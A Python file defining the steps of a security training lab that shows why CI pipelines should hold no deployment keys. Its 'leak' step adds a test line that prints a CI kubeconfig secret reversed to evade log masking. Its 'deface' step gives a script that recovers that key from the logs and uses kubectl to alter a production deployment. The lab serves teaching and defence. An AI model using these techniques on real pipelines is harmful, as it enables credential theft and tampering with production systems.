"""The steps of lab `pipeline`: images from the reader's commits, and why CI has no keys."""

from __future__ import annotations

from labs.exercises import pipeline_checks as checks
from labs.exercises import pipeline_proofs as proofs
from labs.exercises.pipeline_views import VIEWS as VIEWS
from labs.step import Step

LINE = 'print("LEAK", key := __import__("os").environ.get("KUBE_CONFIG", "nothing"), key[::-1])'
"""The attack: one line of a test, which prints what CI may have been given. It passes flake8."""
DEFACED = "This page is mine now"


STEPS: tuple[Step, ...] = (
    Step(
        id="first-run",
        title="Your first run",
        kind="edit",
        check=checks.first_run,
        solution="""\
cd ../app-repo
git pull --quiet --rebase
if grep --quiet 'VERSION = "0.9.0"' hello/version.py; then
  sed -i 's/^VERSION = .*/VERSION = "1.0.0"/
          s/^WORDS = .*/WORDS = "Built from a commit of mine."/
          s/^SHAPE = .*/SHAPE = "square"/' hello/version.py
  git diff
  git commit --quiet --all --message "Version 1.0.0"
  git push
  lab ci logs --follow | grep -v '^ ' | tail -20
fi
""",
        why="The push is all that you do: the Git server tells CI, and CI makes an image.",
        hints=(
            "Which four lines make a version? The README of app-repo says where they are.",
            "What did `git push` say about CI, and what does `lab ci runs` say of that run?",
            '`VERSION = "1.0.0"` in hello/version.py; `git commit -am "Version 1.0.0"`, `git push`',
        ),
    ),
    Step(
        id="who-deploys",
        title="An image is there",
        kind="predict",
        check=checks.who_deploys,
        solution='lab.predict("who-deploys", "the page shows 1.0.0")',
        why="In most pipelines an image that is built is an image that runs.",
    ),
    Step(
        id="red-test",
        title="A test stops an image",
        kind="edit",
        check=checks.red_test,
        solution="""\
cd ../app-repo
git pull --quiet --rebase
if grep --quiet 'VERSION = "1.0.0"' hello/version.py; then
  sed -i 's/^VERSION = .*/VERSION = "1.1.0"/
          s/^WORDS = .*/WORDS = "Servus from Klagenfurt."/
          s/^SHAPE = .*/SHAPE = "heart"/' hello/version.py
  git commit --quiet --all --message "Version 1.1.0: greet with a heart"
  git push
  lab ci logs --follow | tail -5 || echo "red, and rightly so"
fi
""",
        why="CI is there to say no: what does not pass its tests never becomes an image.",
        hints=(
            "Which shapes exist, according to hello/look.py? Is a heart among them?",
            "What does `lab ci runs` say became of your newest run?",
            '`VERSION = "1.1.0"` and `SHAPE = "heart"` in hello/version.py; commit, push.',
        ),
    ),
    Step(
        id="own-greeting",
        title="A greeting of your own",
        kind="edit",
        check=checks.own_greeting,
        solution="""\
cd ../app-repo
git pull --quiet --rebase
if grep --quiet 'SHAPE = "heart"' hello/version.py; then
  sed -i 's/^SHAPE = .*/SHAPE = "hexagon"/' hello/version.py
  git commit --quiet --all --message "Version 1.1.0: greet with a hexagon"
  git push
  lab ci logs --follow | tail -5
fi
""",
        why="The number is the same: no image had it yet, since the red run made none.",
        hints=(
            "What did the log say was wrong with the commit before?",
            "Which shape in hello/look.py would you like instead of the heart?",
            '`SHAPE = "hexagon"` in hello/version.py; `git commit -am "Mend it"`, `git push`',
        ),
    ),
    Step(
        id="typical-up",
        title="The other pipeline",
        kind="terminal",
        check=proofs.is_up,
        solution="""\
lab typical up
[ -d ../typical-repo ] || git clone --quiet "$(lab repo url typical)" ../typical-repo
""",
        why="To compare two pipelines one has to run both.",
        hints=(
            "What does `lab typical --help` list?",
            "Which of those commands starts something?",
            "`lab typical up` in the terminal, then the `git clone` of the notebook",
        ),
    ),
    Step(
        id="masked",
        title="A secret in a log",
        kind="predict",
        check=proofs.masked,
        solution='lab.predict("masked", "stars, both times")',
        why="CI systems promise to hide secrets in logs; it is good to know how far that goes.",
    ),
    Step(
        id="leak",
        title="One line in a test",
        kind="edit",
        check=proofs.leak,
        solution=f"""\
cd ../typical-repo
git pull --quiet --rebase
if ! grep --quiet LEAK tests/test_look.py; then
  cat >> tests/test_look.py <<'END'
    {LINE}
END
  git commit --quiet --all --message "Test the look of it"
  git push
  lab typical logs --follow | cut -c 1-100 | tail -15
fi
""",
        why="A test is a program that CI runs for anybody who may push; it sees what CI sees.",
        hints=(
            "Is the line inside the last test, four blanks from the edge?",
            "Did you push? What does `lab typical runs` say?",
            "`cat >> tests/test_look.py`, the line, Ctrl-D; then `git commit -am Look`, `git push`",
        ),
    ),
    Step(
        id="deface",
        title="Deface production",
        kind="terminal",
        check=proofs.deface,
        solution=f"""\
server=$(kubectl config view --minify --output 'jsonpath={{.clusters[0].cluster.server}}')
stolen=../stolen.kubeconfig
steal() {{
  lab typical logs | awk '/^LEAK/ {{ key = $3 }} END {{ print key }}' |
    rev | base64 --decode > "$stolen"
}}
as_thief() {{ kubectl --kubeconfig "$stolen" --server "$server" "$@"; }}
seen=$(kubectl get replicasets --namespace production --output 'jsonpath={{..value}}')
if [[ $seen != *"{DEFACED}"* ]]; then
  steal
  if ! as_thief get nodes; then # the key of an earlier day: it was taken back since
    lab typical run
    lab typical logs --follow > /dev/null
    steal
  fi
  as_thief auth whoami
  as_thief set env deployment/hello --namespace production GREETING="{DEFACED}"
fi
""",
        why="Who has the key needs no pipeline any more, no commit, and no name.",
        hints=(
            "Does `../stolen.kubeconfig` look like a kubeconfig? `head -c 200` shows it.",
            "Which address does your own kubeconfig use? The stolen one's is the runner's.",
            "All three commands of the notebook, one after the other: `… set env …` is the last.",
        ),
    ),
    Step(
        id="nothing-to-steal",
        title="The same line in the other pipeline",
        kind="edit",
        check=checks.nothing_to_steal,
        solution=f"""\
cd ../app-repo
git pull --quiet --rebase
if [ -z "$(git log --grep='^Look for a key' --format=%h)" ]; then
  cat >> tests/test_look.py <<'END'
    {LINE}
END
  git commit --quiet --all --message "Look for a key in CI"
  git push
  lab ci logs --follow | grep -A 3 LEAK || true
  git revert --no-edit HEAD
  git push
fi
""",
        why="What CI was not given it cannot lose, however careless anybody is.",
        hints=(
            "In which of the two clones did you write the line this time?",
            "Did you push? `lab ci logs` shows the newest run: which line begins with LEAK?",
            "`cat >> tests/test_look.py` in app-repo, the line, Ctrl-D; commit, `git push`",
        ),
    ),
    Step(
        id="ways-in",
        title="A way in, and a key",
        kind="code",
        check=proofs.ways_in,
        solution='answer = "typical-runner"\n',
        why="A reachable API server and a key for it make a way in; either alone does not.",
        hints=(
            "Which rows of the table have a `yes` in the first column?",
            "And which of those rows have one in the second column as well?",
            '`answer = "typical-runner"`',
        ),
    ),
    Step(
        id="typical-down",
        title="Take the key back",
        kind="terminal",
        check=proofs.is_down,
        solution="lab typical down\n",
        why="A key that has been seen in a log is everybody's: it is revoked, not hidden.",
        hints=(
            "What started the typical pipeline, and what is the opposite of that?",
            "Does `lab typical status` still list something that runs?",
            "`lab typical down`",
        ),
    ),
    Step(
        id="labels",
        title="From an image back to its commit",
        kind="code",
        check=checks.labels,
        solution="""\
import json
import subprocess

script = 'crane config "$(docker port "$LAB_NAME-registry-gate" 5000/tcp)/hello:1.1.0"'
found = json.loads(subprocess.run(script, shell=True, check=True, capture_output=True).stdout)
answer = found["config"]["Labels"]["org.opencontainers.image.revision"]
""",
        why="An image that names its commit answers “what is in it?” with `git show`.",
        hints=(
            "Which of the labels above looks like a commit's name?",
            "What would somebody mean by the revision of an image?",
            "Put what stands behind `org.opencontainers.image.revision` there, in quotes.",
        ),
        stretch=True,
    ),
    Step(
        id="one-image",
        title="A version is one image, for ever",
        kind="code",
        check=checks.one_image,
        solution='answer = "Push image"\n',
        why="A tag that can be overwritten names no content, and a rollback to it is a lottery.",
        hints=(
            "Which stages of that run have the result `success`?",
            "Which stage did it not get past? What does the log say there, in three lines?",
            '`answer = "Push image"`',
        ),
        stretch=True,
    ),
)
